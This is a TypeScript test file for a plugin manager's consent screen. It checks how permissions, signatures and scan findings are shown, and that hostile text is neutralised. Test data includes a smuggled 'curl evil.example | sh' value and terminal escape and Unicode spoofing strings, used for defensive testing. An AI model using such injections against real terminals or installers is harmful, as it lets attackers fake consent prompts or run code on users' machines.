import { describePermissions, neutralText, noPermissions, packageStatement } from '@mb/manifest'
import type { ConsentRequest } from '@mb/plugin-core'
import stringWidth from 'fast-string-width'
import { describe, expect, it } from 'vitest'
import { anyRequest } from '../fixtures/any-request.ts'
import { Output } from '../output/output.ts'
import { showConsentScreen } from './consent-screen.ts'

const keyId = '0123456789abcdef'.repeat(4)
const permissions = describePermissions({
  ...noPermissions,
  fs: { read: [{ path: '${workspace}/**', reason: 'reads the history' }], write: [] },
  exec: [{ command: 'git', args: ['log', '**'] }],
})
const request: ConsentRequest = {
  ...anyRequest,
  version: '1.4.0',
  description: 'Writes release notes',
  author: 'Acme <dev@acme.example>',
  permissions,
  added: permissions,
  warnings: ['Nobody signed it: whoever handed it to you could have changed it'],
}

function screen(
  changes: Partial<ConsentRequest>,
  { isColoured = false, isScanned = true } = {},
): string {
  const written: string[] = []
  const output = new Output({ write: (line) => written.push(line), columns: 80 }, isColoured)
  showConsentScreen({ ...request, ...changes }, output, { isScanned })
  return written.join('')
}

describe('showConsentScreen()', () => {
  it('shows who made it, who signed it and what it asks, gravest first', () => {
    expect(screen({})).toMatchInlineSnapshot(`
      "acme/notes 1.4.0  Writes release notes
      made by    Acme <dev@acme.example> (says the package)
      from       /home/ada/notes
      signed by  nobody
      scan       nothing found

      It asks to:
        high    Start the program git log **
        medium  Read all files in the folder you are in “reads the history”
      By its type, command, it may:
        low  Write temporary files, which are gone after each run
      warning  Nobody signed it: whoever handed it to you could have changed it

      A yes holds for versions 1.x from the same place, while they ask for no more.
      "
    `)
  })

  it('says the gravest again above the question, where the list is longer than a terminal', () => {
    const many = describePermissions({
      ...noPermissions,
      exec: [{ command: 'bash' }],
      env: Array.from({ length: 60 }, (_, at) => ({ name: `NAME_${at}` })),
    })
    const lines = screen({ permissions: many, added: many }).trimEnd().split('\n')
    expect(lines.length).toBeGreaterThan(60)
    expect(lines.slice(-6)).toMatchInlineSnapshot(`
      [
        "It asks for 61 permissions in all: 1 critical, 60 high. The gravest again:",
        "  critical  Start the program bash with any arguments (it can run any code)",
        "  high      Read the environment variable NAME_0",
        "  high      Read the environment variable NAME_1",
        "",
        "A yes holds for versions 1.x from the same place, while they ask for no more.",
      ]
    `)
    expect(screen({})).not.toContain('in all')
  })

  it('marks what is new beside what was granted', () => {
    expect(screen({ added: permissions.slice(1) })).toMatchInlineSnapshot(`
      "acme/notes 1.4.0  Writes release notes
      made by    Acme <dev@acme.example> (says the package)
      from       /home/ada/notes
      signed by  nobody
      scan       nothing found

      It asks to:
        high    Start the program git log ** (new)
        medium  Read all files in the folder you are in “reads the history”
      By its type, command, it may:
        low  Write temporary files, which are gone after each run
      warning  Nobody signed it: whoever handed it to you could have changed it

      A yes holds for versions 1.x from the same place, while they ask for no more.
      "
    `)
  })

  it('names the version that it replaces, and marks a wider permission as new', () => {
    const shown = screen({ replaces: '1.3.0' })
    expect(shown).toContain('acme/notes 1.3.0 → 1.4.0  Writes release notes\n')
    expect(shown).toContain('Read all files in the folder you are in (new)')
  })

  it('tells a key that is known from one that is new', () => {
    const statement = packageStatement({
      id: 'acme/notes',
      version: '1.4.0',
      tree: { files: [], digest: '' },
      manifestDigest: '',
      permissions: noPermissions,
    })
    const lineOf = (known: boolean): string | undefined =>
      screen({ signature: { status: 'signed', keyId, publicKey: '', statement, known } })
        .split('\n')
        .find((line) => line.startsWith('signed by'))
    expect(lineOf(false)).toBe('signed by  key 0123456789abcdef…, seen for the first time')
    expect(lineOf(true)).toBe('signed by  key 0123456789abcdef…, known from before')
  })

  it('names the marketplace, and shows what the scan found, gravest first', () => {
    expect(
      screen({
        repository: 'home',
        permissions: [],
        added: [],
        warnings: [],
        findings: [
          { id: 'MB4900', severity: 'low', message: 'Long lines' },
          {
            id: 'MB4101',
            severity: 'medium',
            message: 'Opens a connection',
            file: 'dist/index.mjs',
            line: 3,
            column: 7,
            help: 'Declare permissions.net',
          },
        ],
      }),
    ).toMatchInlineSnapshot(`
      "acme/notes 1.4.0  Writes release notes
      made by    Acme <dev@acme.example> (says the package)
      from       marketplace home
      signed by  nobody
      scan       2 found

      It asks for nothing: it sees the files that you name, and no others.
      By its type, command, it may:
        low  Write temporary files, which are gone after each run
      The scan found:
        medium dist/index.mjs:3:7 Opens a connection
          Declare permissions.net
        low Long lines

      A yes holds for versions 1.x from the same place, while they ask for no more.
      "
    `)
  })

  it('says when nothing was scanned', () => {
    expect(screen({}, { isScanned: false })).toContain('scan       none\n')
  })

  it('says nothing of a scan where none was to be made', () => {
    expect(screen({ isScanned: false })).not.toContain('scan')
  })

  it('lets what is critical stand out', () => {
    const critical = [{ kind: 'exec', target: '', words: 'Do anything', risk: 'critical' }] as const
    expect(screen({ permissions: critical, added: critical }, { isColoured: true })).toContain(
      '\u001b[1m\u001b[7m\u001b[31mcritical\u001b[39m\u001b[27m\u001b[22m  Do anything',
    )
  })

  it('says what is wider, what is gone, what could be had, why it is asked and what it needs', () => {
    const [reads, starts] = permissions
    if (reads === undefined || starts === undefined) throw new TypeError('No permissions')
    const [metrics] = describePermissions({ ...noPermissions, 'system.metrics': true })
    if (metrics === undefined) throw new TypeError('No permissions')
    expect(
      screen({
        replaces: '1.3.0',
        range: '1.4.0',
        neededBy: 'acme/website',
        needs: [
          { plugin: 'acme/changelog', range: '^2.0.0', isOptional: false },
          { plugin: 'acme/pdf', range: '*', isOptional: true },
        ],
        reasons: ['It asks for more than you agreed to'],
        added: [reads, starts],
        wider: [reads],
        removed: [metrics],
        optional: [
          { ...metrics, name: 'system.metrics', isChosen: false },
          { ...reads, name: 'fs.read:${workspace}/**', isChosen: true },
        ],
        warnings: [],
      }),
    ).toMatchInlineSnapshot(`
      "acme/notes 1.3.0 → 1.4.0  Writes release notes
      made by    Acme <dev@acme.example> (says the package)
      from       /home/ada/notes
      signed by  nobody
      scan       nothing found
      needs      acme/changelog ^2.0.0, acme/pdf * (optional)
      needed by  acme/website

      You are asked again, because:
        It asks for more than you agreed to
      It asks to:
        high    Start the program git log ** (new)
        medium  Read all files in the folder you are in (more than before) “reads the
                history”
      By its type, command, it may:
        low  Write temporary files, which are gone after each run
      It can do without, and you chose to let it:
        medium  Read all files in the folder you are in “reads the history”
      It can do without, and is not granted:
        low  See the load, memory and disks of this machine
        mb plugin approve acme/notes --optional 'system.metrics'
      It no longer asks to:
        low  See the load, memory and disks of this machine

      A yes holds for version 1.4.0 alone, from the same place.
      "
    `)
  })

  it.each([
    ['net:api.acme.example', "'net:api.acme.example'"],
    ["fs.read:/x'; curl evil.example | sh; '", 'fs.read'],
    ['fs.read:/x\\', 'fs.read'],
    [`fs.read:/${'x'.repeat(60)}`, 'fs.read'],
  ])('offers %s to be typed as %s', (name, expected) => {
    const [described] = describePermissions({
      ...noPermissions,
      fs: { read: [{ path: '/x' }], write: [] },
    })
    if (described === undefined) throw new TypeError('No permission')
    expect(screen({ optional: [{ ...described, name, isChosen: false }] })).toContain(
      `\n  mb plugin approve acme/notes --optional ${expected}\n`,
    )
  })

  describe('lets no stranger', () => {
    const fake = 'signed by  key 0123456789abcdef…, known from before'
    const hostile = [
      ['begin a line', `x\n${fake}\nIt asks for nothing.`],
      ['begin a line after a return', `x\r\n${fake}\r`],
      ['begin a line by Unicode', `x\u2028${fake}\u2029x\u0085${fake}`],
      ['begin a line by padding to the width', `${'x'.repeat(69)} ${fake}`],
      ['begin a line by padding with blanks', `x${' '.repeat(70)}${fake}`],
      ['begin a line by wide letters', `${'漢'.repeat(36)} ${fake}`],
      ['begin a line by letters without width', `${'x\u200b'.repeat(72)}${fake}`],
      ['begin a line by fillers', `x${'\u3164'.repeat(80)}${fake}`],
      ['move the cursor', `\u001b[2J\u001b[1;1H${fake}\u001b[8m`],
      ['move the cursor by one byte', `\u009b2J\u009b1;1H${fake}`],
      [
        'name the window, or make a link',
        '\u001b]0;root\u0007\u001b]8;;https://evil.example\u0007here',
      ],
      ['take letters back', `critical${'\b'.repeat(8)}low     \u007f`],
      ['turn the order of letters', 'reads \u202efdp.exe\u2066 \u2069 \u200f'],
      ['hide letters in tags', 'reads\u{e0041}\u{e0042}\u{e007f}'],
      ['cover lines with marks', `z${'\u0301'.repeat(500)}\u0489\u20dd`],
      ['close the quotation', 'x” low  Nothing else “'],
      ['answer the question', 'Install acme/notes 1.4.0 and grant this? [y/N] y'],
      ['fill the screen', 'all is well '.repeat(5000)],
      ['fill the screen with one word', 'w'.repeat(50_000)],
    ] as const
    const ours =
      /^(?:acme\/notes |made by {4}|from {7}|signed by {2}|scan {7}|needs {6}|needed by {2}|You are asked again, because:$|It asks to:$|It no longer asks to:$|It can do without|By its type, command, it may:$|The scan found:$|warning {2}|A yes holds for | {2}|$)/

    it.each(hostile)('%s', (_, words) => {
      const calm = neutralText(words)
      const [described] = describePermissions({
        ...noPermissions,
        fs: { read: [{ path: `/srv/${calm.replaceAll('/', '')}`, reason: words }], write: [] },
      })
      if (described === undefined) throw new TypeError('No permission')
      const shown = screen({
        description: calm,
        author: calm,
        source: neutralText(words, 400),
        repository: undefined,
        neededBy: calm,
        needs: [{ plugin: words, range: words, isOptional: true }],
        reasons: [calm],
        warnings: [words],
        permissions: [described],
        added: [described],
        wider: [described],
        removed: [described],
        optional: [{ ...described, name: words, isChosen: false }],
        findings: [
          { id: 'MB1', severity: 'low', message: calm, file: words.slice(0, 400), help: calm },
        ],
      })
      const lines = shown.split('\n')
      expect(shown.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
      expect(lines.filter((line) => !ours.test(line))).toEqual([])
      expect(lines.filter((line) => stringWidth(line) > 80)).toEqual([])
      for (const start of ['signed by', 'scan ', 'It asks to:', 'A yes holds'])
        expect(lines.filter((line) => line.startsWith(start))).toHaveLength(1)
      expect(shown.match(/“/g)?.length ?? 0).toBe(shown.match(/”/g)?.length ?? 0)
    })

    it('do any of that, where a terminal would have let them (control)', () => {
      const naive = hostile.flatMap(([, words]) =>
        `warning ${words}`.split(/[\n\r\u2028\u2029\u0085]/).flatMap(brokenByTerminal),
      )
      expect(
        naive.filter((line) => line.trimStart().startsWith('signed by')).length,
      ).toBeGreaterThanOrEqual(5)
    })
  })
})

/** As a terminal of 80 columns breaks a line. */
function brokenByTerminal(line: string): readonly string[] {
  const lines: string[] = []
  let part = ''
  for (const letter of line) {
    if (stringWidth(part + letter) > 80) {
      lines.push(part)
      part = ''
    }
    part += letter
  }
  return [...lines, part]
}
